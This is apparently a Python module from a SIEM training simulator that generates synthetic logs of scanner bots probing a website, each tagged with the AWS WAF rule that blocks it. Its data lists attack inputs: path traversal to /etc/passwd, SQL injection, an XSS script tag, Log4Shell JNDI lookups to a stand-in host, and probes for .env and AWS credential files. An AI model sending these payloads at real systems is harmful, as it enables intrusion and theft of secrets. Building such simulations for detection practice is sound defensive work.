"""Programs that try what every website is tried for: most of them the web ACL stops."""

from __future__ import annotations

from collections.abc import Sequence
from typing import NamedTuple

import numpy as np
import polars as pl

from siemlab.simulate.calendar import SECOND, Day
from siemlab.simulate.hits import Hits, bursts
from siemlab.simulate.hours import crowd, moments
from siemlab.simulate.legs import words
from siemlab.simulate.rng import Ints
from siemlab.simulate.stage import Stage

__all__ = ["bots"]

NOISE = "198.19.0.0/16"
RESEARCH = ("192.0.2.131", "192.0.2.140", "192.0.2.163")
RESEARCH_AGENT = "Mozilla/5.0 (compatible; ExampleScan/1.2; +https://scan.example/)"
BURSTS_A_DAY = 165
BURST = 5


class Bot(NamedTuple):
    """A program: how often it comes (weight), what it asks for, and which rule stops it.

    Parameters
    ----------
    weight
        How often.
    targets
        Paths, with a query where there is one.
    agents
        The user agents that it shows.
    blocked
        The web ACL's rule; empty where it gets through to a page that is not there.
    method
        The method.
    """

    weight: int
    targets: tuple[str, ...]
    agents: tuple[str, ...]
    blocked: str = ""
    method: str = "GET"


OLD_BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36"
)
TOOLS = ("Go-http-client/1.1", "python-requests/2.27.1", "curl/7.68.0", OLD_BROWSER)
SECRETS = ("/.env", "/.env.bak", "/.git/config", "/.aws/credentials", "/config.json", "/backup.zip")
BLOGS = (
    *("/wp-login.php", "/xmlrpc.php", "/wp-admin/install.php", "/wp-content/plugins/"),
    *("/blog/wp-login.php", "/wordpress/wp-login.php"),
)
ADMIN = (
    *("/phpmyadmin/index.php", "/manager/html", "/actuator/health", "/solr/admin/info/system"),
    *("/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/vendor/phpunit/phpunit/phpunit.xsd"),
)

LEAKS = ("/web.config", "/debug.log", "/app.ini", "/storage/logs/laravel.log")
FILES = ("/?file=../../../../../etc/passwd", "/download?path=../../../windows/win.ini")
SQL = ("/search?dest=1%27%20OR%20%271%27=%271", "/hotels/1001?id=1%20UNION%20SELECT%20NULL--")
SCRIPTS = ("/search?dest=%3Cscript%3Ealert(1)%3C/script%3E",)
LOG4J = ("${jndi:ldap://198.19.200.7:1389/a}", "${jndi:dns://198.19.200.7/x}")
ATTACKERS = ("sqlmap/1.6.9#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap NSE)")

BOTS = (
    Bot(30, (*SECRETS, *BLOGS, *ADMIN), TOOLS, "AWSManagedIPReputationList"),
    Bot(12, ("/", *ADMIN), TOOLS, "AWSManagedReconnaissanceList"),
    Bot(13, ("/", *SECRETS, *ADMIN), ("",), "NoUserAgent_HEADER"),
    Bot(6, ("/", "/search?dest=1", "/login"), ATTACKERS, "UserAgent_BadBots_HEADER"),
    Bot(6, FILES, TOOLS, "GenericLFI_QUERYARGUMENTS"),
    Bot(5, LEAKS, TOOLS, "RestrictedExtensions_URIPATH"),
    Bot(4, SQL, TOOLS, "SQLi_QUERYARGUMENTS"),
    Bot(3, SCRIPTS, TOOLS, "CrossSiteScripting_QUERYARGUMENTS"),
    Bot(4, ("/",), LOG4J, "Log4JRCE_HEADER"),
    Bot(2, ("/",), TOOLS, "PROPFIND_METHOD", "PROPFIND"),
    Bot(22, BLOGS, TOOLS),
    Bot(14, SECRETS, TOOLS),
    Bot(10, ADMIN, TOOLS),
)
LANDING = Bot(6, ("/", "/robots.txt", "/.well-known/security.txt"), (RESEARCH_AGENT,))
FOUND = {"/": (200, 14_800), "/robots.txt": (200, 410), "/.well-known/security.txt": (200, 630)}


def bots(stage: Stage, day: Day) -> Hits:
    """Return what programs of strangers try on a day, in bursts; the named scanners among them.

    Parameters
    ----------
    stage
        Whose draws they are.
    day
        The day.
    """
    rng, world = stage.rng, stage.world
    starts = moments(world, rng, day, "noise", world.scaled(BURSTS_A_DAY))
    count, kinds = len(starts), (*BOTS, LANDING)
    lengths = rng.rare_long(count, BURST, 80)
    total = int(lengths.sum())
    at, burst, connection = bursts(starts, lengths, rng.rare_long(total, SECOND, 50 * SECOND))
    kind = rng.indices(count, [bot.weight for bot in kinds])
    strangers = crowd(rng, NOISE, 10 + count // 2, count)
    named = pl.Series(RESEARCH)[rng.below(count, len(RESEARCH))]
    clients = named.zip_with(pl.Series(kind == len(BOTS)), strangers)
    shown = _turn([bot.agents for bot in kinds], kind, rng.below(count, 64))
    agents = pl.Series([agent for bot in kinds for agent in bot.agents])[shown]
    of = kind[burst]
    chosen = _turn([bot.targets for bot in kinds], of, rng.below(total, 5040))
    tried = [target for bot in kinds for target in bot.targets]
    status, sent = np.array([FOUND.get(each, (404, 1_460)) for each in tried])[chosen].T
    stopped = np.array([bool(bot.blocked) for bot in kinds])[of]
    lengths_of = np.array([len(target) for target in tried])[chosen]
    return Hits(
        at=at,
        connection=connection,
        client=clients[burst],
        path=pl.Series([target.partition("?")[0] for target in tried])[chosen],
        query=pl.Series([target.partition("?")[2] for target in tried])[chosen],
        method=pl.Series([bot.method for bot in kinds])[of],
        version=words("HTTP/1.1", total),
        agent=agents[burst],
        referrer=words("", total),
        status=status,
        target_status=status,
        sent=np.where(stopped, 520, sent),
        received=150 + lengths_of + rng.below(total, 60),
        wait=rng.rare_long(total, 5, 200),
        blocked=pl.Series([bot.blocked for bot in kinds])[of],
        counted=words("", total),
    )


def _turn(choices: Sequence[Sequence[str]], kind: Ints, turns: Ints) -> Ints:
    """Return for each turn the place of one of its kind's choices, in all choices together."""
    sizes = np.array([len(each) for each in choices], dtype=np.int64)
    places: Ints = (np.cumsum(sizes) - sizes)[kind] + turns % sizes[kind]
    return places
